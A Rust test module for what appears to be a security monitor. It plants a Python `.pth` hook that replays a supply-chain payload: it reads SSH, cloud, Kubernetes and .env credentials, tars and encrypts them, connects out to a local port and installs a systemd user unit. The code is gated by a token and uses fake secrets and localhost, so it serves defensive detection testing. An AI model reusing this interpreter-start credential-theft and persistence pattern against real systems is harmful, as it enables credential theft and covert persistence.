//! The attack replayed inside a learned server.

use std::{
    fs,
    path::{Path, PathBuf},
};

use crate::fs::TempDir;

/// The litellm 1.82 payload's moves, replayed by a `.pth` file at interpreter start: reads SSH,
/// cloud and Kubernetes credentials and a `.env`, packs them with tar and openssl, connects out,
/// installs a systemd user unit. Runs only when `MONITOR_TEST_ATTACK` holds its token, so a
/// `.pth` left behind by a killed test harms nothing.
pub const PAYLOAD: &str = r#"
import os, socket, subprocess
home = os.environ['MONITOR_TEST_HOME']
for rel in ['.ssh/id_rsa', '.aws/credentials', '.kube/config', 'project/.env']:
    try:
        with open(os.path.join(home, rel), 'rb') as f:
            f.read()
    except OSError:
        pass
archive = os.path.join(home, 'stage.tar')
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.run(['tar', '-cf', archive, '-C', home, '.ssh', '.aws'], **quiet)
subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-pbkdf2', '-k', 'k', '-in', archive,
                '-out', archive + '.enc'], **quiet)
s = socket.socket()
try:
    s.connect(('127.0.0.1', int(os.environ['MONITOR_TEST_EXFIL_PORT'])))
except OSError:
    pass
s.close()
units = os.path.join(home, '.config', 'systemd', 'user')
os.makedirs(units, exist_ok=True)
with open(os.path.join(units, 'monitor-test.service'), 'w') as f:
    f.write('[Service]\nExecStart=/bin/true\n')
"#;

/// What the attack must raise, each from the server's process tree.
pub const ATTACK_RULES: &[&str] = &[
    "credential-read",
    "profile.read",
    "tool-spawn.archive",
    "tool-spawn.encryption",
    "profile.exec",
    "profile.connect",
    "persistence.systemd",
    "profile.write",
];

/// A `.pth` planted in a venv's site-packages (removed on drop), with the fake home the payload
/// steals from.
pub struct Planted {
    pth: PathBuf,
    pub home: crate::rules::DirGuard,
    _dir: TempDir,
    /// Environment for the attacked server: the token, the home, where to connect.
    pub env: Vec<(String, String)>,
}

impl Planted {
    /// Plants the payload in `site_packages`; `exfil_port` is where it connects (nothing
    /// listens there).
    pub fn plant(site_packages: &Path, exfil_port: u16) -> Option<Self> {
        let home = crate::rules::DirGuard::fake_home()?;
        for rel in [
            ".ssh/id_rsa",
            ".aws/credentials",
            ".kube/config",
            "project/.env",
        ] {
            home.write(rel, "fake secret\n");
        }
        let dir = TempDir::new("payload");
        let payload = dir.join("payload.py");
        fs::write(&payload, PAYLOAD).expect("payload");
        let token = crate::random_hex(8);
        let pth = site_packages.join(format!("zz-monitor-test-{}.pth", crate::random_hex(4)));
        fs::write(
            &pth,
            format!(
                "import os, runpy; os.environ.get('MONITOR_TEST_ATTACK') == '{token}' and runpy.run_path({:?})\n",
                payload.display().to_string()
            ),
        )
        .expect("plant the .pth");
        let env = vec![
            ("MONITOR_TEST_ATTACK".to_owned(), token),
            ("MONITOR_TEST_HOME".to_owned(), crate::path_str(home.path())),
            ("MONITOR_TEST_EXFIL_PORT".to_owned(), exfil_port.to_string()),
        ];
        Some(Self {
            pth,
            home,
            _dir: dir,
            env,
        })
    }

    pub fn env(&self) -> Vec<(&str, &str)> {
        self.env
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect()
    }

    /// The unit file the payload installs, once it exists.
    pub fn unit(&self) -> PathBuf {
        self.home.join(".config/systemd/user/monitor-test.service")
    }
}

impl Drop for Planted {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.pth);
    }
}
